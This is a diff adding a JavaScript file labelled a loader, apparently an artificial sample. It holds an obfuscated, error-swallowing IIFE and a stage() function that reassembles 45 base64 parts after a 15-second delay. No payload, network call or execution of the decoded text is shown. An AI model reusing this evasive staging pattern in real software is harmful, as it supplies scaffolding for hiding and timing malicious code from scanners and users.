@@ -0,0 +1,54 @@
+// Loader with a long try body before its obfuscated catch, and a long promise body before the delay
+(function(){try{const _0x4e1f2a=[];_0x4e1f2a['push'](_0x4e1f2a['shift']()+'0000');_0x4e1f2a['push'](_0x4e1f2a['shift']()+'0001');_0x4e1f2a['push'](_0x4e1f2a['shift']()+'0002');_0x4e1f2a['push'](_0x4e1f2a['shift']()+'0003');_0x4e1f2a['push'](_0x4e1f2a['shift']()+'0004');_0x4e1f2a['push'](_0x4e1f2a['shift']()+'0005');_0x4e1f2a['push'](_0x4e1f2a['shift']()+'0006');_0x4e1f2a['push'](_0x4e1f2a['shift']()+'0007');_0x4e1f2a['push'](_0x4e1f2a['shift']()+'0008');_0x4e1f2a['push'](_0x4e1f2a['shift']()+'0009');_0x4e1f2a['push'](_0x4e1f2a['shift']()+'0010');_0x4e1f2a['push'](_0x4e1f2a['shift']()+'0011');_0x4e1f2a['push'](_0x4e1f2a['shift']()+'0012');_0x4e1f2a['push'](_0x4e1f2a['shift']()+'0013');_0x4e1f2a['push'](_0x4e1f2a['shift']()+'0014');_0x4e1f2a['push'](_0x4e1f2a['shift']()+'0015');_0x4e1f2a['push'](_0x4e1f2a['shift']()+'0016');_0x4e1f2a['push'](_0x4e1f2a['shift']()+'0017');_0x4e1f2a['push'](_0x4e1f2a['shift']()+'0018');_0x4e1f2a['push'](_0x4e1f2a['shift']()+'0019');_0x4e1f2a['push'](_0x4e1f2a['shift']()+'0020');_0x4e1f2a['push'](_0x4e1f2a['shift']()+'0021');_0x4e1f2a['push'](_0x4e1f2a['shift']()+'0022');_0x4e1f2a['push'](_0x4e1f2a['shift']()+'0023');_0x4e1f2a['push'](_0x4e1f2a['shift']()+'0024');_0x4e1f2a['push'](_0x4e1f2a['shift']()+'0025');_0x4e1f2a['push'](_0x4e1f2a['shift']()+'0026');_0x4e1f2a['push'](_0x4e1f2a['shift']()+'0027');_0x4e1f2a['push'](_0x4e1f2a['shift']()+'0028');_0x4e1f2a['push'](_0x4e1f2a['shift']()+'0029');_0x4e1f2a['push'](_0x4e1f2a['shift']()+'0030');_0x4e1f2a['push'](_0x4e1f2a['shift']()+'0031');_0x4e1f2a['push'](_0x4e1f2a['shift']()+'0032');_0x4e1f2a['push'](_0x4e1f2a['shift']()+'0033');_0x4e1f2a['push'](_0x4e1f2a['shift']()+'0034');_0x4e1f2a['push'](_0x4e1f2a['shift']()+'0035');_0x4e1f2a['push'](_0x4e1f2a['shift']()+'0036');_0x4e1f2a['push'](_0x4e1f2a['shift']()+'0037');_0x4e1f2a['push'](_0x4e1f2a['shift']()+'0038');_0x4e1f2a['push'](_0x4e1f2a['shift']()+'0039');_0x4e1f2a['push'](_0x4e1f2a['shift']()+'0040');_0x4e1f2a['push'](_0x4e1f2a['shift']()+'0041');_0x4e1f2a['push'](_0x4e1f2a['shift']()+'0042');_0x4e1f2a['push'](_0x4e1f2a['shift']()+'0043');_0x4e1f2a['push'](_0x4e1f2a['shift']()+'0044');_0x4e1f2a['push'](_0x4e1f2a['shift']()+'0045');_0x4e1f2a['push'](_0x4e1f2a['shift']()+'0046');_0x4e1f2a['push'](_0x4e1f2a['shift']()+'0047');_0x4e1f2a['push'](_0x4e1f2a['shift']()+'0048');_0x4e1f2a['push'](_0x4e1f2a['shift']()+'0049');_0x4e1f2a['push'](_0x4e1f2a['shift']()+'0050');_0x4e1f2a['push'](_0x4e1f2a['shift']()+'0051');_0x4e1f2a['push'](_0x4e1f2a['shift']()+'0052');_0x4e1f2a['push'](_0x4e1f2a['shift']()+'0053');_0x4e1f2a['push'](_0x4e1f2a['shift']()+'0054');_0x4e1f2a['push'](_0x4e1f2a['shift']()+'0055');_0x4e1f2a['push'](_0x4e1f2a['shift']()+'0056');_0x4e1f2a['push'](_0x4e1f2a['shift']()+'0057');_0x4e1f2a['push'](_0x4e1f2a['shift']()+'0058');_0x4e1f2a['push'](_0x4e1f2a['shift']()+'0059');}catch(_0x5b7c9d){return;}})();
+async function stage(parts) {
+    const chunks = [];
+    await new Promise(resolve => {
+    chunks.push(Buffer.from(parts[0], 'base64').toString('utf8'));
+    chunks.push(Buffer.from(parts[1], 'base64').toString('utf8'));
+    chunks.push(Buffer.from(parts[2], 'base64').toString('utf8'));
+    chunks.push(Buffer.from(parts[3], 'base64').toString('utf8'));
+    chunks.push(Buffer.from(parts[4], 'base64').toString('utf8'));
+    chunks.push(Buffer.from(parts[5], 'base64').toString('utf8'));
+    chunks.push(Buffer.from(parts[6], 'base64').toString('utf8'));
+    chunks.push(Buffer.from(parts[7], 'base64').toString('utf8'));
+    chunks.push(Buffer.from(parts[8], 'base64').toString('utf8'));
+    chunks.push(Buffer.from(parts[9], 'base64').toString('utf8'));
+    chunks.push(Buffer.from(parts[10], 'base64').toString('utf8'));
+    chunks.push(Buffer.from(parts[11], 'base64').toString('utf8'));
+    chunks.push(Buffer.from(parts[12], 'base64').toString('utf8'));
+    chunks.push(Buffer.from(parts[13], 'base64').toString('utf8'));
+    chunks.push(Buffer.from(parts[14], 'base64').toString('utf8'));
+    chunks.push(Buffer.from(parts[15], 'base64').toString('utf8'));
+    chunks.push(Buffer.from(parts[16], 'base64').toString('utf8'));
+    chunks.push(Buffer.from(parts[17], 'base64').toString('utf8'));
+    chunks.push(Buffer.from(parts[18], 'base64').toString('utf8'));
+    chunks.push(Buffer.from(parts[19], 'base64').toString('utf8'));
+    chunks.push(Buffer.from(parts[20], 'base64').toString('utf8'));
+    chunks.push(Buffer.from(parts[21], 'base64').toString('utf8'));
+    chunks.push(Buffer.from(parts[22], 'base64').toString('utf8'));
+    chunks.push(Buffer.from(parts[23], 'base64').toString('utf8'));
+    chunks.push(Buffer.from(parts[24], 'base64').toString('utf8'));
+    chunks.push(Buffer.from(parts[25], 'base64').toString('utf8'));
+    chunks.push(Buffer.from(parts[26], 'base64').toString('utf8'));
+    chunks.push(Buffer.from(parts[27], 'base64').toString('utf8'));
+    chunks.push(Buffer.from(parts[28], 'base64').toString('utf8'));
+    chunks.push(Buffer.from(parts[29], 'base64').toString('utf8'));
+    chunks.push(Buffer.from(parts[30], 'base64').toString('utf8'));
+    chunks.push(Buffer.from(parts[31], 'base64').toString('utf8'));
+    chunks.push(Buffer.from(parts[32], 'base64').toString('utf8'));
+    chunks.push(Buffer.from(parts[33], 'base64').toString('utf8'));
+    chunks.push(Buffer.from(parts[34], 'base64').toString('utf8'));
+    chunks.push(Buffer.from(parts[35], 'base64').toString('utf8'));
+    chunks.push(Buffer.from(parts[36], 'base64').toString('utf8'));
+    chunks.push(Buffer.from(parts[37], 'base64').toString('utf8'));
+    chunks.push(Buffer.from(parts[38], 'base64').toString('utf8'));
+    chunks.push(Buffer.from(parts[39], 'base64').toString('utf8'));
+    chunks.push(Buffer.from(parts[40], 'base64').toString('utf8'));
+    chunks.push(Buffer.from(parts[41], 'base64').toString('utf8'));
+    chunks.push(Buffer.from(parts[42], 'base64').toString('utf8'));
+    chunks.push(Buffer.from(parts[43], 'base64').toString('utf8'));
+    chunks.push(Buffer.from(parts[44], 'base64').toString('utf8'));
+        setTimeout(resolve, 15000);
+    });
+    return chunks.join('');
+}
\ No newline at end of file